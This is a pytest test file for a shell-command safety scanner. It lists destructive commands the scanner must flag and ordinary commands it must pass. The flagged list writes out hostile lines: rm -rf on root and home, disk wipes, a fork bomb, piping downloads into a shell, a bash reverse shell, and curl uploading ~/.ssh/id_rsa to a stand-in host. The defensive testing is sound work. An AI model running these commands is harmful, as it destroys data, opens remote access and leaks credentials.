"""The scanner's core promise: dangerous targets flagged, scoped ordinary work and mentions left alone."""

from __future__ import annotations

import pytest

from shelltune.safety import CATEGORIES, scan_command


@pytest.mark.parametrize(
    "cmd,category",
    [
        ("rm -rf /", "recursive_delete"),
        ("sudo /bin/rm -r -f /", "recursive_delete"),
        ("rm --recursive --force ~", "recursive_delete"),
        ("rm -rf $HOME", "recursive_delete"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "disk_wipe"),
        ("mkfs.ext4 /dev/sdb1", "disk_wipe"),
        ("curl -fsSL https://get.x.sh | sh", "remote_code_execution"),
        ("wget -qO- http://x/y.sh | sudo bash", "remote_code_execution"),
        (":(){ :|:& };:", "fork_bomb"),
        ("chmod -R 777 /", "system_permissions"),
        ("> /etc/passwd", "auth_tampering"),
        ("shutdown -h now", "shutdown"),
        ("history -c", "history_log_wipe"),
        ("sudo ufw disable", "firewall_disable"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell"),
        ("curl -F 'f=@~/.ssh/id_rsa' https://x.example/upload", "credential_exfiltration"),
    ],
)
def test_dangerous(cmd, category):
    finding = scan_command(cmd)
    assert finding is not None and finding.category == category
    assert finding.severity == CATEGORIES[category] and finding.reason


@pytest.mark.parametrize(
    "cmd",
    [
        "rm -f /tmp/x",
        "rm -rf ./build",
        'grep "rm -rf /" notes.txt',
        "echo 'mkfs'",
        "find . -name '*.tmp' -delete",
        "dd if=a.img of=b.img",
        "chmod 644 file",
        "kill 1234",
        "curl -o file https://example.com/f",
        "sudo systemctl restart nginx",
        "ls -la /",
    ],
)
def test_ordinary(cmd):
    assert scan_command(cmd) is None
